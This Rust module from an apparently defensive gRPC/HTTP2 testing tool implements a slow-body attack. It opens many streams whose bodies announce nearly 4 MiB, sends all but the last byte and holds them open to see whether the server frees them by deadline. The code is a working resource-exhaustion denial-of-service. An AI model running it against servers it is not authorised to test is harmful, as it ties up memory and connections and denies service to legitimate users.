//! `slowbody`: request bodies that never finish. Each call is a GetQuote
//! whose gRPC length prefix announces a message just under the server's
//! 4 MiB receive cap, followed by all of it but the last byte, and then
//! nothing, ever. The server cannot decode the message, so it can only
//! hold the bytes, until a request deadline (if it has one) ends the call.

use std::time::Duration;

use h2_peer::{
    grpc,
    h2client::{ReceiveWindows, await_end, unfinished_message},
};
use serde::Serialize;
use tokio::{task::JoinSet, time::Instant};

use super::{Context, Findings, HeldEnds, describe_tally};
use crate::Error;

/// The message length each prefix announces: 1 KiB under the default 4 MiB
/// receive cap, so no server refuses it for its size.
pub const DECLARED_BYTES: u32 = 4 * 1024 * 1024 - 1024;

/// How long a connection waits to open each stream: 2 s.
const OPEN_WAIT: Duration = Duration::from_secs(2);

#[derive(Debug, Serialize)]
struct Details {
    calls: u32,
    connections: u32,
    declared_bytes: u32,
    bytes_sent_each: usize,
    #[serde(flatten)]
    held: HeldEnds,
}

pub async fn run(ctx: &Context) -> Result<Findings, Error> {
    let knobs = &ctx.knobs;
    let hold = knobs.slowbody_hold();
    let deadline = Instant::now() + hold;
    let sent = DECLARED_BYTES as usize - 1;
    let body = unfinished_message(DECLARED_BYTES, sent);

    let mut connections = JoinSet::new();
    let per_conn = knobs.slowbody_calls.div_ceil(knobs.slowbody_conns);
    let mut left = knobs.slowbody_calls;
    while left > 0 {
        let calls = per_conn.min(left);
        left -= calls;
        let (dial, body) = (ctx.dial(), body.clone());
        connections.spawn(async move {
            let mut conn = dial.h2(ReceiveWindows::default()).await?;
            let mut ends = JoinSet::new();
            let mut not_opened = 0;
            // Keep every request half open until the end: dropping one
            // would reset its stream and end the attack on it.
            let mut open_requests = Vec::new();
            for i in 0..calls {
                let wait = OPEN_WAIT.min(deadline.saturating_duration_since(Instant::now()));
                match conn
                    .open_call(
                        grpc::GET_QUOTE,
                        grpc::CONTENT_TYPE,
                        body.clone(),
                        false,
                        wait,
                    )
                    .await?
                {
                    Some((response, request)) => {
                        open_requests.push(request);
                        let started = Instant::now();
                        let limit = deadline.saturating_duration_since(started);
                        ends.spawn(await_end(response, limit, true, started));
                    }
                    None => {
                        not_opened = calls - i;
                        break;
                    }
                }
            }
            let mut results = Vec::new();
            while let Some(Ok(end)) = ends.join_next().await {
                results.push(end);
            }
            drop(open_requests);
            Ok::<_, Error>((results, not_opened))
        });
    }
    let details = Details {
        calls: knobs.slowbody_calls,
        connections: u32::try_from(connections.len()).unwrap_or(u32::MAX),
        declared_bytes: DECLARED_BYTES,
        bytes_sent_each: sent,
        held: super::gather_ends(&mut connections).await,
    };
    let pending = details.held.pending();
    let mut outcome = format!(
        "{} unfinished ~4 MiB bodies: {} still open after {}s",
        details.calls,
        pending,
        hold.as_secs()
    );
    let ended = details.held.ended();
    if !ended.is_empty() {
        outcome.push_str(&format!(
            ", ended by the server: {} (median {:.1}s)",
            describe_tally(&ended),
            details.held.end_median_s.unwrap_or_default()
        ));
    }
    if let Some(e) = &details.held.first_error {
        outcome.push_str(&format!("; error: {e}"));
    }
    Ok(Findings::new(outcome, details))
}
